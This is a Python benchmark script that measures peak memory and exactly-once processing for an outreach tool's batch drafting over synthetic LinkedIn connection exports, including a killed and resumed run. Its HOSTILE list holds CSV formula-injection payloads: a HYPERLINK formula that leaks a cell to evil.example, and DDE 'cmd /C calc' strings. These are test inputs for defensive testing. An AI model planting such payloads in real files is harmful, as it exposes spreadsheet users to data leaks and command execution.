"""Batch memory at LinkedIn-export scale: peak resident memory does not grow with rows.

Generates LinkedIn `Connections.csv` exports as downloaded (the notes preamble, the seven
columns, most emails missing, a few hostile cells such as `=HYPERLINK(...)` names) of
1,000 and 30,000 connections, drafts each offline with the real command

    outreach batch Connections.csv -o drafts.csv --kind intro

in its own process, and prints rows, peak RSS (the kernel's high-water mark for that
process) and drafts/min (the command's own summary figure) for both sizes. The 30,000-row
run is killed with SIGKILL part-way (`--kill-at`, a fraction of the rows journaled) and
re-run with the same command; its peak is the larger of the two processes', and the
result must hold every row exactly once: each row in the output once, in input order,
and none finished before the kill drafted again.

    python benchmarks/batch_memory.py [--small 1000] [--large 30000] [--kill-at 0.3]

Targets: large peak within 10% of the small run's and under 1 GB. Exit status 1 when a
target or the exactly-once check is missed. The guidance index is built once, before
either run, in a fresh workspace (a one-time cost shared by both sizes).
"""

from __future__ import annotations

import argparse
import csv
import os
import random
import re
import signal
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "tests"))

from fixtures.batchkit import FIRST, LAST, read_journal  # noqa: E402

HEADER = ["First Name", "Last Name", "URL", "Email Address", "Company", "Position", "Connected On"]
PREAMBLE = (
    "Notes:\n"
    '"When exporting your connection data, you may notice that some of the email addresses '
    "are missing. You will only see email addresses for connections who have allowed their "
    'connections to see or download their email address using this setting."\n\n'
)
COMPANIES = (
    "Stripe", "Linear", "Supabase", "Shopify", "Spotify", "Tidewater Robotics", "Chen Studio, LLC",
    "City of Oakland", "Freelance", "", "Mozilla", "Datadog", "University of Lagos",
)  # fmt: skip
POSITIONS = (
    "Staff Engineer", "Product Designer", "Developer Advocate", "Research Scientist",
    "Community Organizer", "Founder", "Head of Design", "Data Engineer", "Student", "",
)  # fmt: skip
HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)
MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
GB = 1024**3


def write_linkedin_export(path: Path, rows: int, seed: int = 1) -> None:
    """A Connections.csv as LinkedIn ships it, with one hostile cell in about 200 rows."""
    rng = random.Random(seed)
    with path.open("w", encoding="utf-8", newline="") as handle:
        handle.write(PREAMBLE)
        writer = csv.writer(handle)
        writer.writerow(HEADER)
        for i in range(rows):
            first, last = rng.choice(FIRST), rng.choice(LAST)
            slug = f"{first}-{last}-{i:05d}".lower()
            email = f"{first}.{last}{i}@example.com".lower() if rng.random() < 0.2 else ""
            row = [
                first,
                last,
                f"https://www.linkedin.com/in/{slug}",
                email,
                rng.choice(COMPANIES),
                rng.choice(POSITIONS),
                f"{rng.randint(1, 28):02d} {rng.choice(MONTHS)} {rng.randint(2012, 2025)}",
            ]
            if rng.random() < 0.005:
                row[rng.choice([0, 4, 5])] = rng.choice(HOSTILE)
            writer.writerow(row)


@dataclass
class Run:
    peak_bytes: int
    seconds: float
    summary: str  # the command's summary line
    killed: bool


def _rss_sampler(pid: int, stop: threading.Event, samples: list[int]) -> None:
    status = Path(f"/proc/{pid}/status")
    while not stop.wait(0.25):
        try:
            for line in status.read_text().splitlines():
                if line.startswith("VmRSS:"):
                    samples.append(int(line.split()[1]) * 1024)
        except OSError:
            return


def run_command(
    command: list[str], env: dict[str, str], journal: Path, kill_after_rows: int | None
) -> Run:
    """Run the command; with `kill_after_rows`, SIGKILL it once that many rows are journaled."""
    start = time.perf_counter()
    proc = subprocess.Popen(
        command,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    samples: list[int] = []
    stop = threading.Event()
    sampler = threading.Thread(target=_rss_sampler, args=(proc.pid, stop, samples), daemon=True)
    sampler.start()
    err_lines: list[str] = []
    reader = threading.Thread(
        target=lambda: err_lines.extend(proc.stderr or []), daemon=True
    )  # drain stderr so the child never blocks on a full pipe
    reader.start()
    killed = False
    while kill_after_rows is not None and proc.poll() is None:
        if journal.exists() and _lines(journal) >= kill_after_rows:
            os.killpg(proc.pid, signal.SIGKILL)
            killed = True
            break
        time.sleep(0.2)
    _, status, usage = os.wait4(proc.pid, 0)
    proc.returncode = os.waitstatus_to_exitcode(status)
    stop.set()
    reader.join(5)
    seconds = time.perf_counter() - start
    if not killed and proc.returncode != 0:
        raise RuntimeError(f"batch failed ({proc.returncode}): {''.join(err_lines)[-2000:]}")
    text = "".join(err_lines).replace("\r", "\n")
    summary = next((ln for ln in text.splitlines() if ln.startswith("done ")), "")
    peak = max(usage.ru_maxrss * 1024, max(samples, default=0))  # ru_maxrss is in KB
    return Run(peak, seconds, summary, killed)


def _lines(path: Path) -> int:
    with path.open("rb") as handle:
        return sum(1 for _ in handle)


def _rate(summary: str) -> str:
    found = re.search(r"(\d+) drafts/min", summary)
    return found.group(1) if found else "?"


def check_exactly_once(source: Path, output: Path, journal: Path) -> list[str]:
    """Every input row once in the output, in order; no row finished twice in the journal."""
    with source.open(encoding="utf-8", newline="") as handle:
        urls = [r[2] for r in list(csv.reader(handle))[4:] if r]
    with output.open(encoding="utf-8", newline="") as handle:
        out = list(csv.DictReader(handle))
    problems = []
    if [r["URL"] for r in out] != urls:
        problems.append(f"output rows differ from the input ({len(out)} vs {len(urls)})")
    statuses = Counter(r["status"] for r in out)
    if statuses.get("error"):
        problems.append(f"{statuses['error']} rows in error")
    finished = Counter(r["row_id"] for r in read_journal(journal) if not r.get("retryable"))
    twice = [row_id for row_id, n in finished.items() if n > 1]
    if twice:
        problems.append(f"{len(twice)} rows drafted more than once")
    if len(finished) != len(urls):
        problems.append(f"{len(finished)} rows journaled, expected {len(urls)}")
    return problems


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--small", type=int, default=1000)
    parser.add_argument("--large", type=int, default=30000)
    parser.add_argument("--kill-at", type=float, default=0.3, help="0 to run straight through")
    args = parser.parse_args(argv)

    with tempfile.TemporaryDirectory(prefix="outreach-memory-") as tmp:
        folder = Path(tmp)
        env = {
            k: v
            for k, v in os.environ.items()
            if k not in {"OPENAI_API_KEY", "OPENAI_BASE_URL", "OUTREACH_CHROMA_URL"}
        }
        env.update(
            OUTREACH_HOME=str(folder / "home"),
            OUTREACH_BACKEND="offline",
            OUTREACH_SENDER_NAME="Sam Lee",
            COLUMNS="200",
        )
        base = [sys.executable, "-m", "core"]
        subprocess.run([*base, "index"], env=env, check=True, capture_output=True)
        print("batch memory: LinkedIn exports, offline, `outreach batch ... --kind intro`")
        results: dict[int, Run] = {}
        failed = False
        for rows in (args.small, args.large):
            source = folder / f"Connections-{rows}.csv"
            output = folder / f"drafts-{rows}.csv"
            journal = folder / f"drafts-{rows}.csv.journal.jsonl"
            write_linkedin_export(source, rows, seed=rows)
            command = [*base, "batch", str(source), "-o", str(output), "--kind", "intro"]
            kill = int(rows * args.kill_at) if rows == args.large and args.kill_at > 0 else None
            first = run_command(command, env, journal, kill)
            runs = [first]
            if first.killed:
                done = sum(1 for r in read_journal(journal) if not r.get("retryable"))
                print(f"  [{rows}] killed with SIGKILL after {done} rows journaled; re-running")
                runs.append(run_command(command, env, journal, None))
            peak = max(r.peak_bytes for r in runs)
            results[rows] = Run(peak, sum(r.seconds for r in runs), runs[-1].summary, first.killed)
            problems = check_exactly_once(source, output, journal)
            failed |= bool(problems)
            rates = " then ".join(f"{_rate(r.summary) if r.summary else 'killed'}" for r in runs)
            print(
                f"  [{rows}] rows {rows}, peak RSS {peak / 2**20:.0f} MB, drafts/min {rates}, "
                f"{sum(r.seconds for r in runs):.0f} s; {runs[-1].summary}"
            )
            for problem in problems:
                print(f"  [{rows}] PROBLEM: {problem}")
            if not problems:
                print(f"  [{rows}] every row exactly once: yes")
        small, large = results[args.small], results[args.large]
        ratio = large.peak_bytes / small.peak_bytes
        met = ratio <= 1.10 and large.peak_bytes < GB and not failed
        print(
            f"  peak RSS {args.large} rows / {args.small} rows = {ratio:.3f} (target <= 1.10), "
            f"{args.large}-row peak {large.peak_bytes / 2**20:.0f} MB (target < 1024 MB) "
            f"{'OK' if met else 'MISSED'}"
        )
    return 0 if met else 1


if __name__ == "__main__":
    sys.exit(main())
